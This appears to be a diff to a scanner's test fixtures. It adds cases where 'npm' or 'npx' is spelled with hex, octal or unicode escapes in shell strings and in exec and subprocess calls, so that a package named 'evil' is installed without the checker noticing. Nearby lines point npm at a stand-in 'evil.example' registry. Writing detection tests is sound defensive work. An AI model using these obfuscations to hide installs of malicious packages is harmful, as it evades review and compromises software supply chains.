@@ -34,6 +34,19 @@ const ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM: FindingRow[] = [
   SYSTEM('echo ok\\ndocker run evil/img'),
   SYSTEM('echo ok\\nnpm test --registry=https://evil.example/'),
   SYSTEM('echo ok\\nnpm_config_registry=https://evil.example/ npm ci'),
+  // The program's name itself written with escapes (hex, octal, \u, \u{}, \N{}): the process gets `npm`, the check
+  // reads no manager, in a command string or an argument list (`curl|sh` written so is refused: that reading decodes).
+  SYSTEM('\\x6epm install evil'),
+  SYSTEM('n\\x70m install evil'),
+  SYSTEM('\\156pm install evil'),
+  SYSTEM('np\\N{LATIN SMALL LETTER M} install evil'),
+  SYSTEM('\\x6epx evil'),
+  ['src/check.js', "execSync('\\u006epm install evil')"],
+  ['src/check.js', "execSync('n\\u{70}m install evil')"],
+  ['src/check.go', 'exec.Command("sh", "-c", "\\x6epm install evil").Run()'],
+  ['src/check.py', "import subprocess\nsubprocess.run(['\\x6epm', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run(['n\\x70m', 'install', 'evil'])"],
+  ['src/check.js', "spawnSync('n\\u0070m', ['install', 'evil'])"],
 ];
 
 // A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
